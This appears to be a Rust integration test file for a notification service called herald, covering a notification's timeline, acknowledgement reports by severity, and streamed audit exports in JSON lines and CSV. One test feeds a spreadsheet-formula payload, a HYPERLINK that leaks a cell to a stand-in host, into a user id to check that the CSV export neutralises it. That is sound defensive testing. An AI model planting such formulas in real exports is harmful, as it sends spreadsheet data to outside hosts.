//! The read side of the closed loop over HTTP, on a real server and store:
//! a notification's timeline, the audit export (streamed in pages, JSON
//! lines and CSV) and the acknowledgement report.

mod common;

use std::collections::HashMap;

use common::{TestServer, API_KEY};
use futures::future::join_all;
use herald::clock::{rfc3339, Clock};
use herald::config::escalation::{PolicyFile, StepFile};
use serde_json::{json, Value};

/// `critical` escalates five minutes after creation; other severities never.
/// The export test sends more notifications than one API burst allows.
async fn server() -> TestServer {
    TestServer::start_with(|f| {
        f.api_rate_limit.burst = Some(100_000);
        let step = StepFile {
            after: Some("5m".into()),
            renotify: Some(true),
            ..Default::default()
        };
        f.escalation.policies =
            HashMap::from([("critical".to_string(), PolicyFile { steps: vec![step] })]);
    })
    .await
}

async fn send(s: &TestServer, user: &str, id: &str, severity: Option<&str>) {
    let mut body = json!({ "id": id, "type": "study_ready", "title": "t" });
    if let Some(sev) = severity {
        body["severity"] = json!(sev);
    }
    let (status, b) = s
        .post(&format!("/api/v1/users/{user}/notifications"), body)
        .await;
    assert_eq!(status, 202, "{b}");
}

async fn text(s: &TestServer, path: &str) -> (u16, String) {
    let res = s
        .http
        .get(format!("{}{path}", s.base))
        .bearer_auth(API_KEY)
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

#[tokio::test]
async fn a_timeline_tells_a_notification_from_creation_to_closing() {
    let s = server().await;
    let (mut c, _) = s
        .connect_ok(&s.token("u1", "s1", "radiologist", 3_600_000))
        .await;
    send(&s, "u1", "n1", Some("critical")).await;
    c.expect_event("critical_notification").await;
    s.clock.advance(1_500);
    c.call(
        "acknowledge_notification",
        Some(json!({"notificationId": "n1"})),
    )
    .await;

    let (status, t) = s.get("/api/v1/notifications/n1/timeline").await;
    assert_eq!(status, 200, "{t}");
    let events = t["events"].as_array().unwrap();
    let kinds: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    assert_eq!(kinds.first(), Some(&"created"), "{kinds:?}");
    let ack = kinds
        .iter()
        .position(|k| *k == "acknowledged")
        .expect("acknowledged");
    let closed = kinds.iter().position(|k| *k == "closed").expect("closed");
    assert!(ack < closed, "{kinds:?}");
    assert_eq!(events[ack]["userId"], "u1");
    let times: Vec<&str> = events.iter().map(|e| e["at"].as_str().unwrap()).collect();
    assert!(
        times.windows(2).all(|w| w[0] <= w[1]),
        "oldest first: {times:?}"
    );
    for e in events {
        assert!(e.get("hash").is_none() && e.get("seq").is_none(), "{e}");
    }

    let (status, body) = s.get("/api/v1/notifications/nope/timeline").await;
    assert_eq!(status, 404);
    assert_eq!(body["error"]["code"], "not_found");
    let res = s
        .http
        .get(format!("{}/api/v1/notifications/n1/timeline", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401, "an API key is needed");
    s.stop().await;
}

#[tokio::test]
async fn the_report_counts_times_overdue_and_within_policy_by_severity() {
    let s = server().await;
    let (mut c, _) = s
        .connect_ok(&s.token("u1", "s1", "radiologist", 3_600_000))
        .await;
    let start = s.clock.now_ms();
    for (id, severity) in [
        ("a", Some("critical")),
        ("b", Some("critical")),
        ("c", Some("routine")),
        ("d", None),
    ] {
        send(&s, "u1", id, severity).await;
        c.expect_event("critical_notification").await;
    }
    s.clock.advance(2_000);
    c.call(
        "acknowledge_notification",
        Some(json!({"notificationId": "a"})),
    )
    .await;
    s.clock.advance(3_000);
    c.call(
        "acknowledge_notification",
        Some(json!({"notificationId": "c"})),
    )
    .await;

    let (status, r) = s.get("/api/v1/reports/acknowledgement").await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(
        (&r["count"], &r["acknowledged"], &r["open"], &r["overdue"]),
        (&json!(4), &json!(2), &json!(2), &json!(0))
    );
    assert_eq!(
        r["timeToAcknowledge"],
        json!({"p50": 2000, "p90": 5000, "p99": 5000})
    );
    assert_eq!(r["bySeverity"]["critical"]["open"], 1);
    assert_eq!(r["bySeverity"]["routine"]["timeToAcknowledge"]["p50"], 5000);
    assert_eq!(r["bySeverity"]["none"]["count"], 1);
    assert_eq!(
        r["bySeverity"]["none"]["timeToAcknowledge"],
        json!({"p50": null, "p90": null, "p99": null})
    );
    // Within policy: `a` acknowledged 2 s in, before its first step (5
    // min); `b` open with its step still ahead is not judged yet; the
    // others have no policy.
    assert_eq!(r["withinPolicy"], 1.0, "{r}");
    assert_eq!(r["bySeverity"]["critical"]["withinPolicy"], 1.0);
    assert_eq!(r["bySeverity"]["routine"]["withinPolicy"], Value::Null);
    assert_eq!(r["bySeverity"]["none"]["withinPolicy"], Value::Null);

    // Five minutes after creation the open critical one is overdue; the
    // open one without a severity has no policy and never is.
    s.clock.advance(300_000);
    let (_, r) = s.get("/api/v1/reports/acknowledgement").await;
    assert_eq!(r["overdue"], 1, "{r}");
    assert_eq!(r["bySeverity"]["critical"]["overdue"], 1);
    assert_eq!(r["bySeverity"]["none"]["overdue"], 0);
    // `b` missed its step: one of the two critical ones was in time.
    assert_eq!(r["withinPolicy"], 0.5, "{r}");
    assert_eq!(r["bySeverity"]["critical"]["withinPolicy"], 0.5);

    let (_, only) = s
        .get("/api/v1/reports/acknowledgement?severity=critical")
        .await;
    assert_eq!((&only["count"], &only["overdue"]), (&json!(2), &json!(1)));
    assert_eq!(only["bySeverity"].as_object().unwrap().len(), 1);

    // A period that ends before the notifications were created counts none.
    let before = rfc3339(start);
    let (_, empty) = s
        .get(&format!("/api/v1/reports/acknowledgement?to={before}"))
        .await;
    assert_eq!(empty["count"], 0, "{empty}");
    assert_eq!(empty["withinPolicy"], Value::Null, "{empty}");

    for bad in [
        "from=yesterday",
        "to=12345",
        "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z",
    ] {
        let (status, body) = s
            .get(&format!("/api/v1/reports/acknowledgement?{bad}"))
            .await;
        assert_eq!(status, 400, "{bad}");
        assert_eq!(body["error"]["code"], "invalid_query", "{bad}");
    }
    s.stop().await;
}

#[tokio::test]
async fn the_audit_export_streams_every_record_of_a_period_in_both_formats() {
    let s = server().await;
    let start = s.clock.now_ms();
    // More records than one page of the export, so it goes page by page.
    const N: usize = 1_234;
    for batch in (0..N).collect::<Vec<_>>().chunks(100) {
        let ids: Vec<String> = batch.iter().map(|i| format!("n{i}")).collect();
        join_all(ids.iter().map(|id| send(&s, "u1", id, None))).await;
    }
    s.clock.advance(1);
    let from = rfc3339(start);
    let to = rfc3339(s.clock.now_ms());

    let (status, jsonl) = text(&s, &format!("/api/v1/audit?from={from}&to={to}")).await;
    assert_eq!(status, 200);
    let records: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let created: Vec<&Value> = records.iter().filter(|r| r["type"] == "created").collect();
    assert_eq!(created.len(), N);
    for pair in records.windows(2) {
        assert_eq!(
            pair[1]["seq"].as_i64(),
            Some(pair[0]["seq"].as_i64().unwrap() + 1)
        );
        assert_eq!(pair[1]["prevHash"], pair[0]["hash"], "linked");
    }

    let (status, csv) = text(&s, &format!("/api/v1/audit?from={from}&to={to}&format=csv")).await;
    assert_eq!(status, 200);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("seq,at,type,notification_id,user_id,socket_id,level,detail,prev_hash,hash")
    );
    assert_eq!(lines.count(), records.len());

    // The period bounds the export: `to` is excluded.
    let (_, none) = text(&s, &format!("/api/v1/audit?from={from}&to={from}")).await;
    assert_eq!(none, "");
    let (_, header_only) = text(
        &s,
        &format!("/api/v1/audit?from={from}&to={from}&format=csv"),
    )
    .await;
    assert_eq!(header_only.lines().count(), 1);

    let (status, body) = s.get("/api/v1/audit?format=xml").await;
    assert_eq!(status, 400);
    assert_eq!(body["error"]["message"], "format must be jsonl or csv");
    let (status, body) = s.get("/api/v1/audit?from=1795600800000").await;
    assert_eq!(status, 400);
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("RFC 3339"));
    s.stop().await;
}

/// A user id or notification id a spreadsheet would run as a formula comes
/// out of the CSV export as text (a `'` inside a quoted cell, the OWASP
/// way), and out of the JSON lines export exactly as it went in.
#[tokio::test]
async fn the_csv_export_neutralises_formulas_and_json_lines_keep_them_exact() {
    let s = server().await;
    let start = s.clock.now_ms();
    let user = r#"=HYPERLINK("http://x/?leak="&A1)"#;
    let in_path: String = form_urlencoded::byte_serialize(user.as_bytes()).collect();
    send(&s, &in_path, "-1", None).await;
    s.clock.advance(1);
    let period = format!("from={}&to={}", rfc3339(start), rfc3339(s.clock.now_ms()));

    let (status, csv) = text(&s, &format!("/api/v1/audit?{period}&format=csv")).await;
    assert_eq!(status, 200);
    let created = csv.lines().nth(1).expect("the created record");
    let cells: Vec<&str> = created.split(',').collect();
    assert_eq!(cells[2], "created", "{created}");
    assert_eq!(cells[3], r#""'-1""#, "{created}");
    assert_eq!(
        cells[4], r#""'=HYPERLINK(""http://x/?leak=""&A1)""#,
        "{created}"
    );
    // Herald's own numbers stay numbers.
    assert!(cells[0].parse::<i64>().is_ok(), "{created}");

    let (status, jsonl) = text(&s, &format!("/api/v1/audit?{period}")).await;
    assert_eq!(status, 200);
    let record: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(record["userId"], user);
    assert_eq!(record["notificationId"], "-1");
    s.stop().await;
}
